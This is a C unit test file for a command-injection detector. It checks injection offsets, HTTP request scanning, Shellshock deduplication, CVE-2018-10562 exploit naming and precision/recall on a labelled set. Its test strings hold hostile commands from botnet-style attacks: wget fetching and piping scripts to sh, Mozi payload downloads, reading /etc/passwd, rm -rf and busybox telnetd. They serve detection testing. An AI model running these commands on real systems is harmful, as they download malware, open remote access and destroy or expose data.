/*
 * test_rce.c - shell command injection beyond Shellshock (rce.c): where an
 * injection starts in a value, what a request gives, and the labelled set
 * (tests/rce/labelled.txt: attack requests written from public advisories
 * and benign requests with the same characters) scored for precision and
 * recall.
 */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "rce.h"
#include "unit.h"

static ss_rules_t *rules;

static int setup(void)
{
    rules = ss_rules_new();
    return rules ? 0 : -1;
}

static int teardown(void)
{
    ss_rules_free(rules);
    return 0;
}

static size_t find(const char *v)
{
    return rce_find_injection(rules, v, strlen(v));
}

static void test_find(void)
{
    static const struct {
        const char *value;
        long at; /* -1: none */
    } cases[] = {
        {";wget http://198.51.100.9/x.sh", 0},
        {"127.0.0.1;id;", 9},
        {"127.0.0.1 && cat /etc/passwd", 10},
        {"x||uname -a", 1},
        {"$(busybox wget -g 198.51.100.9 -l /tmp/m -r /mips)", 0},
        {"-h `cd /tmp; rm -rf mips; wget http://198.51.100.9/mips`", 3},
        {"\ncat /etc/passwd", 0},
        {"a|/bin/busybox telnetd", 1},
        {"x;sleep 5;", 1},
        {";./x86 rep.hnap", 0},
        {"foo; FOO=1 wget http://a/b", 3},
        /* clean: words, lists, SQL, path parameters, prices, prose */
        {"/app;jsessionid=0A1B2C", -1},
        {"name|id|date", -1},
        {"tags=news;sort;date", -1},
        {"' OR 1=1;-- ", -1},
        {"SELECT * FROM t; UPDATE t SET a=1", -1},
        {"I like cats; cat food is good", -1},
        {"hello\nping me when you are back", -1},
        {"$(document).ready(function(){})", -1},
        {"costs $5 | free shipping", -1},
        {"echo chamber; echo location", -1},
        {"a && b", -1},
        {"", -1},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t n = strlen(cases[i].value), got = find(cases[i].value);
        long want = cases[i].at < 0 ? (long)n : cases[i].at;
        if ((long)got != want)
            fprintf(stderr, "\n  \"%s\": injection at %zu, want %ld", cases[i].value, got, want);
        CU_ASSERT_EQUAL(got, want);
    }
}

static void test_request(void)
{
    ss_result_t res;
    ss_result_init(&res);
    static const char req[] =
        "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://"
        "198.51.100.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 "
        "HTTP/1.0\r\nHost: 192.0.2.1\r\n\r\n";
    CU_ASSERT_EQUAL_FATAL(rce_scan_http_request(rules, (const uint8_t *)req, strlen(req), &res), 1);
    const ss_payload_t *p = &res.payloads[0];
    HS_ASSERT_STR(p->header, "cmd");
    CU_ASSERT_EQUAL(p->vector, SS_VEC_HTTP_URI);
    CU_ASSERT_EQUAL(p->grade, SS_GRADE_RED);
    CU_ASSERT_EQUAL_FATAL(p->n_urls, 1);
    HS_ASSERT_STR(p->urls[0], "http://198.51.100.9/Mozi.m");
    CU_ASSERT_EQUAL(p->cves, 0);

    /* ${IFS} for blanks, in a header. */
    static const char ifs[] = "GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: x;wget${IFS}http://"
                              "198.51.100.9/a${IFS}-O-|sh\r\n\r\n";
    CU_ASSERT_EQUAL_FATAL(rce_scan_http_request(rules, (const uint8_t *)ifs, strlen(ifs), &res), 1);
    HS_ASSERT_STR(res.payloads[0].header, "User-Agent");
    CU_ASSERT_EQUAL(res.payloads[0].grade, SS_GRADE_RED);

    /* A Shellshock payload is Shellshock's, not reported twice. */
    static const char ss[] = "GET / HTTP/1.1\r\nCookie: a=1; sid=() { :;}; wget http://a/b\r\n"
                             "User-Agent: () { :; }; /bin/ping -c1 198.51.100.7\r\n\r\n";
    CU_ASSERT_EQUAL(rce_scan_http_request(rules, (const uint8_t *)ss, strlen(ss), &res), 0);
    ss_result_free(&res);
}

static void test_exploits(void)
{
    ss_result_t res;
    ss_result_init(&res);
    static const char req[] =
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: h\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 73\r\n\r\n"
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget`";
    const uint8_t *b = (const uint8_t *)req;
    CU_ASSERT_EQUAL_FATAL(rce_scan_http_request(rules, b, strlen(req), &res), 1);
    rce_name_exploits(NULL, 0, b, strlen(req), &res);
    HS_ASSERT_STR(res.payloads[0].exploit, "CVE-2018-10562");
    /* A user's row comes first; its method and parameter must match too. */
    const rce_exploit_t user[] = {
        {"my-gpon", "GET", "/GponForm/*", ""},     /* wrong method */
        {"my-gpon-2", "", "/Gpon*/diag*", "dest_host"},
    };
    res.payloads[0].exploit = NULL;
    rce_name_exploits(user, 2, b, strlen(req), &res);
    HS_ASSERT_STR(res.payloads[0].exploit, "my-gpon-2");
    res.payloads[0].exploit = NULL;
    const rce_exploit_t other_param[] = {{"x", "", "/GponForm/diag_Form", "cmd"}};
    rce_name_exploits(other_param, 1, b, strlen(req), &res);
    HS_ASSERT_STR(res.payloads[0].exploit, "CVE-2018-10562"); /* the default, not x */
    /* Rows are checked. */
    const char *why = NULL;
    const rce_exploit_t bad[] = {{"", "", "/x", ""}, {"n", "", "x", ""}, {"n", "PO ST", "/x", ""}};
    for (size_t i = 0; i < 3; i++) {
        why = NULL;
        CU_ASSERT_FALSE(rce_exploit_check(&bad[i], &why));
        CU_ASSERT_PTR_NOT_NULL(why);
    }
    CU_ASSERT_TRUE(rce_exploit_check(&user[1], &why));
    ss_result_free(&res);
}

/* ---- the labelled set ---- */

/* Unescapes a request line (\r \n \t \\ \" \xHH) into out; returns its length. */
static size_t unescape(const char *s, char *out)
{
    size_t n = 0;
    for (; *s && *s != '\n'; s++) {
        if (*s != '\\' || !s[1]) {
            out[n++] = *s;
            continue;
        }
        s++;
        switch (*s) {
        case 'r': out[n++] = '\r'; break;
        case 'n': out[n++] = '\n'; break;
        case 't': out[n++] = '\t'; break;
        case 'x': {
            unsigned v = 0;
            int k = 0;
            while (k < 2 && s[1] && strchr("0123456789abcdefABCDEF", s[1]))
                v = v * 16 + (unsigned)(s[1] <= '9' ? s[1] - '0' : (s[1] | 32) - 'a' + 10), s++, k++;
            out[n++] = (char)v;
            break;
        }
        default: out[n++] = *s;
        }
    }
    return n;
}

/* "Content-Length: *" becomes the body's real length. */
static size_t fill_length(char *req, size_t n, size_t cap)
{
    char *cl = memmem(req, n, "Content-Length: *", 17);
    char *end = memmem(req, n, "\r\n\r\n", 4);
    if (!cl || !end)
        return n;
    char num[24];
    int k = snprintf(num, sizeof(num), "%zu", (size_t)(req + n - end - 4));
    if (n + (size_t)k > cap)
        return n;
    char *star = cl + 16;
    memmove(star + k, star + 1, (size_t)(req + n - star - 1));
    memcpy(star, num, (size_t)k);
    return n + (size_t)k - 1;
}

static void test_labelled(void)
{
    FILE *f = fopen(RCE_LABELLED, "r");
    CU_ASSERT_PTR_NOT_NULL_FATAL(f);
    ss_result_t res;
    ss_result_init(&res);
    char *line = NULL, *req = malloc(1 << 20);
    size_t cap = 0, attacks = 0, benign = 0, tp = 0, fp = 0, graded_right = 0, in_table = 0,
           named_right = 0;
    char head[1024] = "";
    ssize_t got;
    while ((got = getline(&line, &cap, f)) > 0) {
        if (line[0] == '#' || line[0] == '\n')
            continue;
        if (line[0] == '@') {
            snprintf(head, sizeof(head), "%s", line);
            continue;
        }
        CU_ASSERT_FATAL(head[0] == '@'); /* a request follows its header */
        size_t n = fill_length(req, unescape(line, req), 1 << 20);
        bool attack = strncmp(head, "@attack ", 8) == 0;
        size_t found = rce_scan_http_request(rules, (const uint8_t *)req, n, &res);
        rce_name_exploits(NULL, 0, (const uint8_t *)req, n, &res);
        if (attack) {
            attacks++;
            char grade[16] = "", name[128] = "";
            sscanf(head + 8, "%15s %127s", grade, name);
            bool listed = false;
            for (size_t k = 0; k < rce_exploit_table_len; k++)
                listed |= strcmp(rce_exploit_table[k].name, name) == 0;
            if (found && listed) {
                in_table++;
                named_right += res.payloads[0].exploit && strcmp(res.payloads[0].exploit, name) == 0;
                if (!res.payloads[0].exploit || strcmp(res.payloads[0].exploit, name) != 0)
                    printf("  named %s: %s", res.payloads[0].exploit ? res.payloads[0].exploit : "-", head);
            }
            if (found) {
                tp++;
                graded_right += ss_grade_parse(grade) == res.max_grade;
                if (ss_grade_parse(grade) != res.max_grade)
                    printf("  graded %s: %s", ss_grade_name(res.max_grade), head);
            } else {
                printf("  missed: %s", head);
            }
        } else {
            benign++;
            if (found) {
                fp++;
                printf("  false positive (%s in %s): %s", res.payloads[0].commands[0] ?
                       res.payloads[0].commands[0] : "?", res.payloads[0].header ?
                       res.payloads[0].header : "-", head);
            }
        }
        head[0] = '\0';
    }
    fclose(f);
    free(line);
    free(req);
    ss_result_free(&res);
    double precision = tp + fp ? (double)tp / (double)(tp + fp) : 0;
    double recall = attacks ? (double)tp / (double)attacks : 0;
    printf("\nlabelled set: %zu attacks, %zu benign; found %zu attacks and %zu benign: "
           "precision %.3f, recall %.3f; grade as labelled for %zu of %zu found; "
           "rce.exploit as labelled for %zu of the %zu found whose exploit is in the table\n",
           attacks, benign, tp, fp, precision, recall, graded_right, tp, named_right, in_table);
    CU_ASSERT_EQUAL(named_right, in_table);
    CU_ASSERT(in_table >= 50);
    CU_ASSERT(attacks >= 100);
    CU_ASSERT(benign >= 100);
    CU_ASSERT(precision >= 0.99);
    CU_ASSERT(recall >= 0.95);
}

static CU_TestInfo tests[] = {
    {"where an injection starts in a value", test_find},
    {"requests: parameter, IFS, Shellshock left alone", test_request},
    {"known exploits: the default table, user rows first", test_exploits},
    {"the labelled set: precision and recall", test_labelled},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN_FIXTURE("command injection", setup, teardown, tests)
